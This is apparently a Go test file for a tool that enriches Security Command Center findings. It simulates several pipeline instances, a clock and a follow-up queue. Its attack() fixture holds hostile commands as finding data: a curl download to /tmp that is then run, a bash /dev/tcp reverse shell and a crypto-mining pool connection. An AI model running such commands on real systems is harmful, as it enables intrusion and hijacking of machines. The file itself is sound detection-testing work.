package enrich_test

import (
	"context"
	"fmt"
	"maps"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/scc-enricher/scc-enricher/pkg/assess"
	"github.com/scc-enricher/scc-enricher/pkg/enrich"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/followup"
	"github.com/scc-enricher/scc-enricher/pkg/marks"
	"github.com/scc-enricher/scc-enricher/pkg/redact"
)

// cluster is several instances over one Security Command Center, with a clock
// and a follow-up queue that a test moves by hand.
type cluster struct {
	*world
	t         *testing.T
	instances []*enrich.Pipeline
	now       time.Time
	tasks     map[string]followup.Task

	mu     sync.Mutex
	stored map[string]*finding.Finding
	hidden map[string]bool // notified, not yet listed
	lists  int
}

func newCluster(t *testing.T, instances int) *cluster {
	t.Helper()
	c := &cluster{world: &world{}, t: t, now: event.Add(10 * time.Minute), tasks: map[string]followup.Task{}, stored: map[string]*finding.Finding{}, hidden: map[string]bool{}}
	policy, err := assess.LoadDefault()
	if err != nil {
		t.Fatal(err)
	}
	redactor, err := redact.New()
	if err != nil {
		t.Fatal(err)
	}
	for range instances {
		p, err := enrich.New(&enrich.Pipeline{
			Settings: enrich.Settings{
				MarkPrefix: prefix, Window: 30 * time.Minute, MaxSpan: 24 * time.Hour, SettleDelay: 15 * time.Second,
				LogBefore: 10 * time.Minute, LogAfter: 2 * time.Minute, Timeout: 20 * time.Second, Version: "test",
			},
			Collector: &evidence.Collector{Findings: c, Config: c, Logs: c, Reputation: c, SourceTimeout: 8 * time.Second},
			Policy:    policy, Redactor: redactor, Writer: c, Records: c, FollowUps: c,
			Now: func() time.Time { return c.now },
		})
		if err != nil {
			t.Fatal(err)
		}
		c.instances = append(c.instances, p)
	}
	return c
}

// add makes a finding known to Security Command Center.
func (c *cluster) add(f *finding.Finding) {
	c.mu.Lock()
	defer c.mu.Unlock()
	copied := *f
	if old := c.stored[f.CanonicalName]; old != nil {
		copied.Marks = old.Marks
	}
	c.stored[f.CanonicalName] = &copied
}

// ListRelated implements evidence.FindingLister.
func (c *cluster) ListRelated(_ context.Context, q evidence.RelatedQuery) ([]finding.Finding, error) {
	if err := c.called("findings"); err != nil {
		return nil, err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lists++
	var out []finding.Finding
	for _, name := range slices.Sorted(maps.Keys(c.stored)) {
		f := *c.stored[name]
		if f.Workload.Same(q.Workload) && !f.EventTime.Before(q.From) && !f.EventTime.After(q.To) && !c.hidden[name] {
			f.Marks = maps.Clone(f.Marks)
			out = append(out, f)
		}
	}
	return out, nil
}

// WriteMarks implements enrich.MarkWriter.
func (c *cluster) WriteMarks(ctx context.Context, w marks.Write) error {
	if err := c.world.WriteMarks(ctx, w); err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	f := c.stored[w.Name]
	if f == nil {
		return marks.ErrGone
	}
	next := maps.Clone(f.Marks)
	if next == nil {
		next = map[string]string{}
	}
	maps.Copy(next, w.Set)
	for _, key := range w.Delete {
		delete(next, key)
	}
	f.Marks = next
	return nil
}

// Enqueue implements followup.Queue.
func (c *cluster) Enqueue(_ context.Context, t followup.Task) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.tasks[t.ID()] = t
	return nil
}

// deliver pushes a finding, as it was when it was notified, to an instance.
func (c *cluster) deliver(instance int, f *finding.Finding) {
	c.t.Helper()
	c.add(f)
	notified := *f
	notified.Marks = nil
	if _, err := c.instances[instance].Enrich(c.t.Context(), &notified); err != nil {
		c.t.Fatalf("deliver %s: %v", f.CanonicalName, err)
	}
}

// rest lets time pass until no follow-up waits; instances take turns.
func (c *cluster) rest() {
	c.t.Helper()
	for turn := 0; len(c.tasks) > 0; turn++ {
		if turn == 500 {
			c.t.Fatalf("500 follow-ups and no rest: %+v", c.tasks)
		}
		c.mu.Lock()
		first := slices.MinFunc(slices.Collect(maps.Values(c.tasks)), func(a, b followup.Task) int {
			if d := a.At.Compare(b.At); d != 0 {
				return d
			}
			return strings.Compare(a.ID(), b.ID())
		})
		delete(c.tasks, first.ID())
		c.mu.Unlock()
		if first.At.After(c.now) {
			c.now = first.At
		}
		if err := c.instances[turn%len(c.instances)].FollowUp(c.t.Context(), first); err != nil {
			c.t.Fatalf("follow-up %+v: %v", first, err)
		}
	}
}

// marksAtRest are all marks but the time they were written, by finding.
func (c *cluster) marksAtRest() map[string]map[string]string {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := map[string]map[string]string{}
	for name, f := range c.stored {
		m := maps.Clone(f.Marks)
		delete(m, prefix+"time")
		out[name] = m
	}
	return out
}

// member is the nth finding of a story on one container.
func member(n int, category string, after time.Duration, args ...string) *finding.Finding {
	f := seed()
	f.CanonicalName = fmt.Sprintf("projects/123456789012/sources/42/locations/global/findings/f%d", n)
	f.Name = fmt.Sprintf("organizations/1/sources/42/locations/global/findings/f%d", n)
	f.Category, f.EventTime = category, event.Add(after)
	f.Processes = []finding.Process{
		{Name: args[0], PID: int64(20 + n), ParentPID: 1, Args: args},
		{Name: "java", PID: 1, Args: []string{"java", "-jar", "app.jar"}},
	}
	return f
}

// attack is a story of five findings.
func attack() []*finding.Finding {
	return []*finding.Finding{
		member(1, "Unexpected Child Shell", 0, "sh", "-c", "id"),
		member(2, "Malicious URL Observed", time.Minute, "curl", "http://203.0.113.5/x", "-o", "/tmp/x"),
		member(3, "Execution: Added Malicious Binary Executed", 2*time.Minute, "/tmp/x"),
		member(4, "Reverse Shell", 4*time.Minute, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
		member(5, "Impact: Suspicious cryptocurrency mining activity using the Stratum Protocol", 6*time.Minute, "/tmp/x", "-o", "stratum+tcp://pool.example.net:3333"),
	}
}
